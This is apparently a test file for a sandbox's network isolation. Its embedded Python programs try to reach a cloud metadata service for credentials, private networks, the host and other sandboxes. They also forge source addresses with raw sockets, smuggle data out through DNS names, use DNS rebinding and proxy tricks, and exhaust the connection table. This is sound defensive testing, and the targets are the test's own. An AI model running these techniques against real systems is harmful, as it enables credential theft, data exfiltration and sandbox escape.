/** Attempts to reach by the network what a sandbox must not reach. Everything that they aim at is the test's own (`support/network-place.ts`). */
import { CONSTANT } from '../../../server/src/network/inside.ts';
import { type InsideAttack, notHeld, type Proof } from '../support/attack.ts';
import type { NetworkHole } from '../support/network-hole.ts';

const GATEWAY = CONSTANT.gateway;
const RESOLVER = CONSTANT.resolver;
/** On which another sandbox serves. */
export const NEIGHBOUR_PORT = 8000;

/** Both runtimes are held by the machine, in the same way. */
const network = (
  name: string,
  program: string,
  says: RegExp,
  by: string,
  proof: Proof,
  place?: InsideAttack['place'],
): InsideAttack => ({
  ...{ name, threat: 'network', program },
  ...(place && { place }),
  runc: { says, by, proof },
  gvisor: { says, by, proof },
});

const accept = 'meta pkttype set host accept';
const hole = (name: string, lines: NetworkHole['lines']): NetworkHole => ({ hole: name, lines });
const toOpen = (rule: string) => `insert rule inet TABLE to_open ${rule} ${accept}`;
const toHost = (rule: string) => `insert rule inet TABLE to_host ${rule} ${accept}`;

/** There and back. */
const both = (address: string | number | undefined): string[] => [
  toOpen(`ip daddr ${address}`),
  `insert rule inet TABLE from_open ip saddr ${address} goto inward`,
];

const reach = (target: string) => `
for address, port in ${target}:
    try:
        connection = socket.create_connection((address, port), timeout=5)
        connection.sendall(b"x")
        said = connection.recv(16).decode()
        break
    except OSError as error:
        failure = error
else:
    raise failure`;
const REFUSED = /^(ECONNREFUSED|ECONNRESET|EHOSTUNREACH|TimeoutError)/;

/** Asks for the source of a datagram that came (`support/witness.py`). */
const witness = `
def seen(data):
    with socket.create_connection((given["outside"], 10), timeout=5) as witness:
        witness.sendall(data)
        return witness.recv(64).decode()`;

/** A question for the address of a name, as it goes over UDP. */
const ask = `
question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\\x07stolen1\\x07example\\x03org\\0" + struct.pack(">2H", 1, 1)
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.settimeout(5)
channel.connect(("${RESOLVER}", 53))
channel.send(question)
require(channel.recv(512)[:2] == question[:2], "the answer is to another question")`;

const throughNames =
  'names are resolved for every sandbox that is not blocked, and a name carries what it likes: block the network where that matters';

/** Each answer of the test's name server for it is another than the one before (`server/src/engines/testing/outside-peer.ts`). */
const TURNING = 'turning.example.org';

export const networkAttacks: readonly InsideAttack[] = [
  network(
    'ask a metadata service for the credentials of the machine',
    reach(`[("169.254.169.254", 80), (given["linkLocal"], 7)]`),
    REFUSED,
    'no rule lets it reach link-local addresses',
    hole('with a rule for a link-local address', ({ linkLocal }) => both(linkLocal)),
  ),
  network(
    'reach a private network',
    reach('[(given["privateAddress"], 7)]'),
    REFUSED,
    'no rule lets it reach private addresses',
    hole('with a rule for a private address', ({ privateAddress }) => both(privateAddress)),
  ),
  network(
    'reach a program of the machine by its address',
    reach('[(given["hostAddress"], given["hostPort"])]'),
    REFUSED,
    'no rule lets it reach the machine itself',
    hole('with a rule for a port of the machine', ({ hostPort }) => [toHost(`tcp dport ${hostPort}`)]),
  ),
  network(
    'reach a program of the machine by the gateway',
    reach(`[("${GATEWAY}", given["hostPort"])]`),
    REFUSED,
    'no rule lets it reach the machine itself',
    hole('with a rule for a port of the machine', ({ hostPort }) => [toHost(`tcp dport ${hostPort}`)]),
  ),
  network(
    'reach another sandbox',
    // Nothing would come back from there: it tells the witness of what it got.
    `${witness}
mark = os.urandom(8).hex().encode()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(mark, (given["neighbour"], ${NEIGHBOUR_PORT}))
for _ in range(20):
    said = seen(mark)
    if said:
        break
    time.sleep(0.1)
require(said, "nothing arrived there")`,
    /^nothing arrived there/,
    'no rule lets sandboxes reach each other',
    hole('with rules for a port of other sandboxes', () => [
      ...['dport', 'sport'].flatMap((port) => [
        toOpen(`udp ${port} ${NEIGHBOUR_PORT}`),
        `insert rule inet TABLE arriving udp ${port} ${NEIGHBOUR_PORT} goto inward`,
      ]),
    ]),
  ),
  network(
    'send with the address of somebody else',
    `${witness}

def datagram(source, data):
    length = 8 + len(data)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(given["outside"]))
    return ip + struct.pack(">4H", 9, 9, length, 0) + data

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
forged, honest = os.urandom(8).hex().encode(), os.urandom(8).hex().encode()
for source, data in ((given["foreign"], forged), ("${CONSTANT.address}", honest)):
    raw.sendto(datagram(source, data), (given["outside"], 0))
while not seen(honest):  # it was sent after the other
    time.sleep(0.05)
    raw.sendto(datagram("${CONSTANT.address}", honest), (given["outside"], 0))
said = seen(forged)
require(said, "the other one arrived, this one did not")`,
    /^the other one arrived/,
    'what does not come from its own address is dropped',
    hole('with rules for that address', ({ foreign }) => [
      `insert rule netdev TABLE from_DEVICE ip saddr ${foreign} meta pkttype set multicast accept`,
      `insert rule inet TABLE judgement ip saddr ${foreign} ${accept}`,
    ]),
  ),
  network(
    'carry data out in names, where all network is blocked',
    ask,
    REFUSED,
    'no rule lets a blocked sandbox reach the resolver',
    hole('with a rule for the resolver', () => [toHost('udp dport 53')]),
    'blocked',
  ),
  network(
    'reach a private network by a name that resolves to something else first',
    `
def resolved():
    return socket.gethostbyname("${TURNING}")
addresses = [resolved() for _ in range(4)]
require({given["outside"], given["privateAddress"]} <= set(addresses), f"the name has {addresses}")
${reach('[(given["privateAddress"], 7)]')}`,
    REFUSED,
    'what a name resolves to means nothing: the address that is connected to is judged, with each packet',
    hole('with a rule for a private address', ({ privateAddress }) => both(privateAddress)),
  ),
  network(
    'reach a private network by an allowed name, through the proxy',
    `
with socket.create_connection((given["outside"], 80), timeout=30) as connection:
    connection.sendall(b"GET / HTTP/1.1\\r\\nHost: inner.example.org\\r\\nConnection: close\\r\\n\\r\\n")
    answer = b"".join(iter(lambda: connection.recv(4096), b"")).decode()
said = answer.splitlines()[0] if answer else "no answer"
require(" 200 " in said, said)`,
    /^(HTTP\/1\.1 (403|502|504)|no answer)/,
    'the proxy is one more sandbox to the firewall',
    hole('with a rule for a private address of the proxy', ({ privateAddress }) => both(privateAddress)),
    'named',
  ),
  {
    ...network(
      'fill the table of connections of the machine',
      `
kept = []
for index in range(400):
    kept.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM if index % 2 else socket.SOCK_STREAM))
    kept[-1].settimeout(5)
    kept[-1].connect((given["outside"], 53 if index % 2 else 7))
    if index % 2:
        kept[-1].send(bytes(17))  # a question for nothing
        kept[-1].recv(512)`,
      REFUSED,
      'each sandbox may have so many, and no more',
      hole('without the bound', () => ['insert rule ip TABLE bound accept']),
      'alone',
    ),
    threat: 'exhaustion',
  },
  {
    name: 'carry data out in names, past a list of addresses',
    threat: 'network',
    place: 'listed',
    program: ask,
    runc: notHeld(throughNames),
    gvisor: notHeld(throughNames),
  },
];
